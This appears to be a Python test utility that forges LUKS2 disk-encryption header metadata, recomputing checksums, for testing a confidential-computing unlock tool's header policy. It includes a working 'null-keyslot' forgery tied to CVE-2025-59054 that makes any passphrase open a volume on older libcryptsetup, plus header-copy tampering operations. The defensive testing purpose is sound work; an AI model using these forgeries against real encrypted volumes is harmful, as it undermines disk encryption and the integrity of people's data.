#!/usr/bin/env python3
"""Rewrite a LUKS2 image's metadata the way a hostile host would.

LUKS2 keeps two copies of its header, each a 4096-byte binary header and
a JSON area, with a SHA-256 over the copy; nothing is authenticated, so
whoever writes the disk can change the JSON and recompute both
checksums. This tool does that, for tests of coco-unlock's header policy.

  luks2-forge.py IMG [--only-first] OP...

OPs, applied in order to the JSON of the first copy:
  set PATH JSON      set a member (PATH dotted: segments.0.encryption)
  del PATH           delete a member
  copy PATH PATH     copy a member to another place (digests.0 digests.00)
  break-second       after writing, flip one byte of the second copy's
                     JSON area and leave its checksum stale
  null-keyslot N VK  make keyslot N a cipher_null one for the volume key in
                     file VK: its area holds the key's AF split in clear,
                     so any passphrase "opens" it on libcryptsetup < 2.8.1
                     (CVE-2025-59054)
--only-first: write the result to the first copy only (both checksums
valid, but the copies differ).

  luks2-forge.py IMG null-key N

prints the SHA-256 of the volume key that cipher_null keyslot N yields
without any passphrase (its area merged back), to show the forgery works.

  luks2-forge.py IMG mac KEYSLOT GUID SECRETFILE

prints the MAC a coco token for KEYSLOT and GUID carries, computed here
from the format shared/token-mac.h describes, without coco-unlock's code.
"""
import hashlib
import json
import struct
import sys

BIN = 4096
CSUM_OFF, CSUM_LEN = 448, 64


def read_copy(img, off):
    img.seek(off)
    binhdr = img.read(BIN)
    if binhdr[:6] not in (b"LUKS\xba\xbe", b"SKUL\xba\xbe"):
        sys.exit(f"luks2-forge: no LUKS2 header copy at {off}")
    (size,) = struct.unpack(">Q", binhdr[8:16])
    img.seek(off)
    return bytearray(img.read(size)), size


def checksum(copy):
    c = bytearray(copy)
    c[CSUM_OFF:CSUM_OFF + CSUM_LEN] = bytes(CSUM_LEN)
    digest = hashlib.sha256(c).digest()
    copy[CSUM_OFF:CSUM_OFF + CSUM_LEN] = digest + bytes(CSUM_LEN - len(digest))


def with_json(copy, size, meta):
    text = json.dumps(meta, separators=(",", ":")).encode()
    if len(text) >= size - BIN:
        sys.exit("luks2-forge: the JSON no longer fits its area")
    copy[BIN:size] = text + bytes(size - BIN - len(text))
    checksum(copy)


def diffuse(buf, hashname):
    h = hashlib.new(hashname)
    ds = h.digest_size
    out = bytearray()
    for j in range(0, len(buf), ds):
        block = buf[j:j + ds]
        out += hashlib.new(hashname, struct.pack(">I", j // ds) + block).digest()[:len(block)]
    return bytes(out)


def af_split(key, stripes, hashname):
    """LUKS's anti-forensic split: stripes-1 random blocks, then the key."""
    import os
    out, d = bytearray(), bytes(len(key))
    for _ in range(stripes - 1):
        s = os.urandom(len(key))
        out += s
        d = diffuse(bytes(a ^ b for a, b in zip(d, s)), hashname)
    out += bytes(a ^ b for a, b in zip(d, key))
    return bytes(out)


def af_merge(material, keylen, stripes, hashname):
    d = bytes(keylen)
    for i in range(stripes - 1):
        s = material[i * keylen:(i + 1) * keylen]
        d = diffuse(bytes(a ^ b for a, b in zip(d, s)), hashname)
    last = material[(stripes - 1) * keylen:stripes * keylen]
    return bytes(a ^ b for a, b in zip(d, last))


def null_keyslot(img, meta, slot, vkfile):
    ks = meta["keyslots"][slot]
    with open(vkfile, "rb") as f:
        vk = f.read()
    material = af_split(vk, ks["af"]["stripes"], ks["af"]["hash"])
    img.seek(int(ks["area"]["offset"]))
    img.write(material)
    ks["area"]["encryption"] = "cipher_null-ecb"


def walk(meta, path):
    keys = path.split(".")
    for k in keys[:-1]:
        meta = meta[k]
    return meta, keys[-1]


MAC_LABEL = b"coco-efi-secret token mac v1"
MAC_FIELDS = [
    ("segment.", lambda m, s: m["segments"].get("0"),
     ["type", "offset", "size", "iv_tweak", "encryption", "sector_size"]),
    ("keyslot.", lambda m, s: m["keyslots"].get(s), ["type", "key_size"]),
    ("keyslot.area.", lambda m, s: m["keyslots"].get(s, {}).get("area"),
     ["type", "offset", "size", "encryption", "key_size"]),
    ("keyslot.af.", lambda m, s: m["keyslots"].get(s, {}).get("af"), ["type", "stripes", "hash"]),
    ("keyslot.kdf.", lambda m, s: m["keyslots"].get(s, {}).get("kdf"),
     ["type", "hash", "iterations", "time", "memory", "cpus", "salt"]),
    ("digest.", lambda m, s: next((d for d in m["digests"].values() if s in d.get("keyslots", [])), None),
     ["type", "hash", "iterations", "salt", "digest"]),
]


def token_mac(meta, uuid, slot, guid, secret):
    import hmac
    text = MAC_LABEL + b"\n" + f"guid={guid}\nkeyslot={slot}\nuuid={uuid}\n".encode()
    for prefix, find, fields in MAC_FIELDS:
        obj = find(meta, slot)
        for f in fields:
            if obj is None or f not in obj:
                v = "-"
            elif isinstance(obj[f], str):
                v = "s:" + obj[f]
            elif isinstance(obj[f], int) and not isinstance(obj[f], bool):
                v = f"n:{obj[f]}"
            else:
                v = "?"
            text += f"{prefix}{f}={v}\n".encode()
    key = hmac.new(secret, MAC_LABEL, hashlib.sha256).digest()
    return hmac.new(key, text, hashlib.sha256).hexdigest()


def main(argv):
    if len(argv) < 2:
        sys.exit(__doc__)
    name, args = argv[1], argv[2:]
    if args and args[0] == "null-key":
        with open(name, "rb") as img:
            first, size = read_copy(img, 0)
            meta = json.loads(bytes(first[BIN:size]).rstrip(b"\0"))
            ks = meta["keyslots"][args[1]]
            keylen, stripes = ks["key_size"], ks["af"]["stripes"]
            img.seek(int(ks["area"]["offset"]))
            material = img.read(keylen * stripes)
        print(hashlib.sha256(af_merge(material, keylen, stripes, ks["af"]["hash"])).hexdigest())
        return
    if args and args[0] == "mac":
        with open(name, "rb") as img:
            first, size = read_copy(img, 0)
        meta = json.loads(bytes(first[BIN:size]).rstrip(b"\0"))
        uuid = bytes(first[168:208]).split(b"\0")[0].decode().lower()
        with open(args[3], "rb") as f:
            print(token_mac(meta, uuid, args[1], args[2], f.read()))
        return
    only_first = False
    if args and args[0] == "--only-first":
        only_first, args = True, args[1:]
    with open(name, "r+b") as img:
        first, size = read_copy(img, 0)
        second, size2 = read_copy(img, size)
        if size2 != size:
            sys.exit("luks2-forge: the copies have different sizes")
        meta = json.loads(bytes(first[BIN:size]).rstrip(b"\0"))
        break_second = False
        while args:
            op = args.pop(0)
            if op == "set":
                parent, key = walk(meta, args.pop(0))
                parent[key] = json.loads(args.pop(0))
            elif op == "copy":
                parent, key = walk(meta, args.pop(0))
                value = json.loads(json.dumps(parent[key]))
                parent, key = walk(meta, args.pop(0))
                parent[key] = value
            elif op == "del":
                parent, key = walk(meta, args.pop(0))
                del parent[key]
            elif op == "break-second":
                break_second = True
            elif op == "null-keyslot":
                null_keyslot(img, meta, args.pop(0), args.pop(0))
            else:
                sys.exit(f"luks2-forge: unknown operation {op}")
        with_json(first, size, meta)
        if not only_first:
            with_json(second, size, meta)
        if break_second:
            second[BIN] ^= 0x01
        img.seek(0)
        img.write(first)
        img.seek(size)
        img.write(second)


if __name__ == "__main__":
    main(sys.argv)
